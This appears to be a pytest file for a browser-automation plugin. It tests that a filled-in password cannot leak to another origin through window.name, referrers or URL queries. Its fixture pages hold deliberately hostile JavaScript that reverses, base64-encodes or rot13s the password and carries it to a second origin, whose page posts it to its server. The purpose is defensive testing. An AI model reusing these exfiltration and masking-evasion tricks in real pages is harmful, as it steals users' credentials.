"""Hostile tests of issue 40, class 7: a secret typed into a page of origin A never reaches a
page of origin B through what a page carries across a navigation of its tab: `window.name`
(reversed and base64-encoded, in the same tab and in a window A opens) and the referrer
(A writes the secret into its own URL and asks for an `unsafe-url` referrer: B's document then
holds the secret as A's did).

A is a sign-in card on the origin the secret is bound to; B, a second granted origin, is a
board that shows whatever it was handed (in a text block, a button's label, a field, its
title) and posts it to its own server. Every assertion is on what came out: what B's server
received, the snapshot, extraction and tab list text, and the OCR of B's screenshot.
"""

from __future__ import annotations

import base64
import json
import re
from collections.abc import Iterator

import anyio
import pytest

from browser_helpers import CHROMIUM, denied_lines, ok, ref_of
from conftest import text_of
from secret_site import SECRET, STYLE, SecretSite, carries_secret, start_secret_site
from test_browser_secret_doors import images_of, ocr

pytestmark = [pytest.mark.anyio, pytest.mark.usefixtures("chromium")]

ENV = {"WARDEN_TEST_ACME_PASSWORD": SECRET}

SIGN_IN = """<!doctype html><html><head><meta charset=utf-8>
<title>Acme sign-in</title>""" + STYLE + """</head><body>
<div class="sidebar"><div class="item">Sign in</div><div class="item">Help</div></div>
<div class="topbar">Acme</div>
<div class="main"><div class="card">
  <div class="row"><div class="lbl" id="l-pw">Password</div>
    <div class="ctl"><input id="pw" type="password" aria-labelledby="l-pw"></div></div>
  <div class="actions">
    <div role="button" tabindex="0" class="btn" id="go">Continue to the board</div>
    <div role="button" tabindex="0" class="link" id="pop">Open the board in a new window</div>
    <div role="button" tabindex="0" class="link" id="ref">Continue by link</div>
    <div role="button" tabindex="0" class="link" id="receipt">Open the receipt</div>
    <div role="button" tabindex="0" class="link" id="share">Share the receipt</div>
  </div>
</div></div>
<script>
const BOARD = "__BOARD__";
const ELSEWHERE = "__ELSEWHERE__";
const pw = () => document.getElementById('pw').value;
const reversed = () => pw().split('').reverse().join('');
// What the page hands over: the secret reversed and base64-encoded; rot13'd (no form the
// host knows to mask) for the windows it opens.
const carried = () => reversed() + ' ' + btoa(pw());
const rot13 = (s) => s.replace(/[A-Za-z]/g, (c) => String.fromCharCode((c <= 'Z' ? 90 : 122) >= (c = c.charCodeAt(0) + 13) ? c : c - 26));
document.getElementById('go').onclick = () => { window.name = carried(); location.href = BOARD + '/board'; };
document.getElementById('pop').onclick = () => { window.open(BOARD + '/board?popup=1', carried()); };
document.getElementById('receipt').onclick = () => { window.open(BOARD + '/receipt?k=' + rot13(pw())); };
document.getElementById('share').onclick = () => { window.open(ELSEWHERE + '/share?k=' + rot13(pw())); };
document.getElementById('ref').onclick = () => {
  const policy = document.createElement('meta');
  policy.name = 'referrer';
  policy.content = 'unsafe-url';
  document.head.append(policy);
  history.replaceState(null, '', '/login?k=' + encodeURIComponent(btoa(reversed())) + '&r=' + reversed());
  location.href = BOARD + '/board?via=link';
};
</script></body></html>"""

BOARD = """<!doctype html><html><head><meta charset=utf-8><title>Board</title>""" + STYLE + """
<style>.big { font: 30px monospace; }</style></head><body><div id="root"></div>
<script>
const got = window.name;
const from = document.referrer;
const esc = (s) => s.replace(/[&<>"]/g, (c) => ({ '&': '&amp;', '<': '&lt;', '>': '&gt;', '"': '&quot;' })[c]);
document.title = 'Board ' + got;
document.getElementById('root').innerHTML = `
  <div class="sidebar"><div class="item">Boards</div><div class="item">Members</div></div>
  <div class="topbar">Team board</div>
  <div class="main"><div class="card">
    <div class="row"><div class="lbl">Handed over</div><div class="big" id="got">${esc(got) || '(nothing)'}</div></div>
    <div class="row"><div class="lbl">From</div><div class="big" id="from">${esc(from) || '(nowhere)'}</div></div>
    <div class="row"><div class="lbl" id="l-v">Value</div><div class="ctl"><input id="v" aria-labelledby="l-v" value="${esc(got)}"></div></div>
    <div class="actions"><div role="button" tabindex="0" class="btn" aria-label="Use ${esc(got)}">Use it</div></div>
  </div></div>`;
fetch('/api/handed', { method: 'POST', body: JSON.stringify({ name: got, referrer: from }) });
</script></body></html>"""


# A page without a title of its own (the browser titles it after its URL) that logs its
# query and sends it to its server.
RECEIPT = """<!doctype html><html><head><meta charset=utf-8></head><body>
<div class="card"><div class="row">Receipt</div><div class="row" id="n"></div></div>
<script>
console.log('receipt for ' + location.search);
fetch('/api/receipt' + location.search);
document.getElementById('n').textContent = 'Order 1042';
</script></body></html>"""


def carries(text: str) -> list[str]:
    """The parts of the secret in `text`, as is, reversed, rot13'd, or base64-encoded (any
    run of base64 characters, decoded)."""
    found = carries_secret(text)
    for run in re.findall(r"[A-Za-z0-9+/_-]{8,}", re.sub(r"%2B|%2F|%3D", lambda m: {"%2B": "+", "%2F": "/", "%3D": "="}[m[0]], text)):
        for start in range(4):
            chunk = run[start:]
            chunk = chunk[: len(chunk) - len(chunk) % 4]
            try:
                decoded = base64.b64decode(chunk.replace("-", "+").replace("_", "/"), validate=True)
            except ValueError:
                continue
            found += carries_secret(decoded.decode("latin-1"))
    return found


def test_the_checker_sees_each_form() -> None:
    reversed_ = SECRET[::-1]
    for form in (SECRET, reversed_, base64.b64encode(SECRET.encode()).decode(), base64.b64encode(reversed_.encode()).decode()):
        assert carries(f"handed: {form} ok"), form
    assert not carries("Team board (nothing) http://127.0.0.1:4242/")


@pytest.fixture()
def board() -> Iterator[SecretSite]:
    site = start_secret_site({"/board": BOARD, "/receipt": RECEIPT})
    yield site
    site.close()


@pytest.fixture()
def elsewhere() -> Iterator[SecretSite]:
    """An origin nothing grants."""
    site = start_secret_site({})
    yield site
    site.close()


@pytest.fixture()
def sign_in(board: SecretSite, elsewhere: SecretSite) -> Iterator[SecretSite]:
    site = start_secret_site({"/login": SIGN_IN.replace("__BOARD__", board.origin).replace("__ELSEWHERE__", elsewhere.origin)})
    yield site
    site.close()


def manifest(write_manifest, sign_in: SecretSite, board: SecretSite, audit: str = ""):
    return write_manifest(f"""{audit}
[browser]
executable = "{CHROMIUM}"

[browser.secrets]
ACME_PASSWORD = {{ env = "WARDEN_TEST_ACME_PASSWORD", origins = ["{sign_in.origin}"] }}

[[plugin]]
name = "browser"
source = "builtin:browser"
limits = {{ call_timeout = "90s" }}
grants.browser = {{ origins = ["{sign_in.origin}", "{board.origin}"], secrets = ["ACME_PASSWORD"] }}
""")


async def handed(board: SecretSite, count: int) -> list[dict]:
    """What B's page posted to its server, once it posted `count` times."""
    with anyio.fail_after(15):
        while len(board.got("/api/handed")) < count:
            await anyio.sleep(0.05)
    return [json.loads(r.body) for r in board.got("/api/handed")]


async def fill_secret(w, sign_in: SecretSite) -> str:
    snap = await ok(w, "browse_navigate", {"url": sign_in.url("/login")})
    await ok(w, "browse_fill", {"ref": ref_of(snap, "password", "Password"), "secret": "ACME_PASSWORD"})
    return snap


async def what_the_plugin_reads(w, tmp_path, name: str) -> dict[str, str]:
    read = {
        "snapshot": text_of(await w.call("browse_snapshot", {"mode": "full", "max_tokens": 8000})),
        "tabs": text_of(await w.call("browse_tabs", {})),
    }
    for fmt in ("text", "markdown", "html"):
        result = await w.call("browse_extract", {"format": fmt})
        read[f"extract {fmt}"] = text_of(result)
    shot = await w.call("browse_screenshot", {}, timeout=60)
    for i, image in enumerate(images_of(shot)):
        read[f"screenshot {i}"] = ocr(image, tmp_path, f"{name}-{i}")
    return read


async def test_window_name_does_not_carry_a_secret_to_another_origin(start_warden, write_manifest, sign_in, board, tmp_path):
    m = manifest(write_manifest, sign_in, board)
    async with start_warden(m, env=ENV) as w:
        snap = await fill_secret(w, sign_in)
        await ok(w, "browse_click", {"ref": ref_of(snap, "button", "Continue to the board")})
        await ok(w, "browse_wait_for", {"text": "Team board", "timeout_ms": 10000})
        [posted] = await handed(board, 1)
        read = await what_the_plugin_reads(w, tmp_path, "same-tab")
    # B's page was handed nothing: the host emptied the name before B's script ran.
    assert posted["name"] == "", posted
    assert "(nothing)" in read["snapshot"], read["snapshot"]
    for name, text in read.items():
        assert not carries(text), f"{name} carries the secret: {text}"


async def test_a_window_the_page_opens_is_not_handed_a_secret_in_its_name(start_warden, write_manifest, sign_in, board, tmp_path):
    m = manifest(write_manifest, sign_in, board)
    async with start_warden(m, env=ENV) as w:
        snap = await fill_secret(w, sign_in)
        await ok(w, "browse_click", {"ref": ref_of(snap, "button", "Open the board in a new window")})
        [posted] = await handed(board, 1)
        tabs = await ok(w, "browse_tabs", {})
        await ok(w, "browse_tabs", {"action": "switch", "tab": 2})
        read = {"tabs": tabs, "snapshot": text_of(await w.call("browse_snapshot", {"mode": "full"}))}
    assert posted["name"] == "", posted
    for name, text in read.items():
        assert not carries(text), f"{name} carries the secret: {text}"


async def test_a_referrer_that_carries_a_secret_passes_the_hold_on(start_warden, write_manifest, sign_in, board, tmp_path):
    """A writes the secret (reversed, and base64 of the reversed) into its own URL, asks for an
    `unsafe-url` referrer and goes to B: B's page reads A's URL in `document.referrer`. B's
    document holds the secret as A's did: nothing the plugin reads of it carries it."""
    m = manifest(write_manifest, sign_in, board)
    async with start_warden(m, env=ENV) as w:
        snap = await fill_secret(w, sign_in)
        await ok(w, "browse_click", {"ref": ref_of(snap, "button", "Continue by link")})
        [posted] = await handed(board, 1)
        read = {
            "snapshot": text_of(await w.call("browse_snapshot", {"mode": "full", "max_tokens": 8000})),
            "tabs": text_of(await w.call("browse_tabs", {})),
        }
        refused = {}
        for tool, args in (("browse_extract", {"format": "text"}), ("browse_screenshot", {}),
                           ("browse_wait_for", {"text": "LERTSEK", "timeout_ms": 300})):
            result = await w.call(tool, args, timeout=60)
            refused[tool] = (result.is_error, text_of(result), images_of(result))
    # The test is not blind: B's page did read A's URL, secret and all.
    assert carries(posted["referrer"]), posted
    assert '"Boards"' in read["snapshot"] and "[textbox]" in read["snapshot"], read["snapshot"]
    for name, text in read.items():
        assert not carries(text), f"{name} carries the secret: {text}"
    for tool, (is_error, text, images) in refused.items():
        assert is_error and "holds a secret" in text and not images, (tool, text)
    denied = [line for line in m.audit_lines() if line["event"] == "capability_denied" and "holds a secret" in line.get("reason", "")]
    assert {line["capability"] for line in denied} >= {"browser.extract", "browser.screenshot", "browser.wait_for"}, denied


async def test_a_held_window_withholds_its_query_from_every_field(start_warden, write_manifest, sign_in, board, elsewhere, tmp_path):
    """The holding page opens windows whose URL carries the secret rot13'd (a form the host
    cannot mask): one on a granted origin without a title of its own (the browser titles it
    after its whole URL), one on an origin nothing grants (refused). The hold withholds the
    query; nothing else the plugin gets of either window (the tab list's titles and URLs, the
    click's answer, the refusal, the window's snapshot, console and network log) nor the
    session's recording brings it back."""
    rec = tmp_path / "rec"
    m = manifest(write_manifest, sign_in, board, f'[audit]\nrecord = ["browser"]\ndir = "{rec}"\n')
    async with start_warden(m, env=ENV) as w:
        snap = await fill_secret(w, sign_in)
        read = {"open": text_of(await w.call("browse_click", {"ref": ref_of(snap, "button", "Open the receipt")}))}
        with anyio.fail_after(15):
            while not board.got("/api/receipt"):
                await anyio.sleep(0.05)
        read["share"] = text_of(await w.call("browse_click", {"ref": ref_of(snap, "button", "Share the receipt")}))
        read["tabs"] = await ok(w, "browse_tabs", {})
        await ok(w, "browse_tabs", {"action": "switch", "tab": 2})
        read["snapshot"] = text_of(await w.call("browse_snapshot", {"mode": "full"}))
        read["console"] = text_of(await w.call("browse_console", {}))
        read["network"] = text_of(await w.call("browse_network", {}))
        denied = await denied_lines(m, elsewhere.origin)
    # The test is not blind: the window's URL did carry it to its server, rot13'd.
    [receipt] = board.got("/api/receipt")
    assert carries(receipt.path), receipt
    assert "blocked" in read["share"] and elsewhere.origin in read["share"], read["share"]
    assert "/receipt" in read["tabs"], read["tabs"]
    assert elsewhere.received == [], elsewhere.received
    assert denied, m.audit_lines()[-3:]
    for path in rec.glob("*/*.jsonl"):
        read[f"recording {path.name}"] = path.read_text()
    leaks = {name: text for name, text in read.items() if carries(text)}
    assert not leaks, f"these carry the secret: {leaks}"
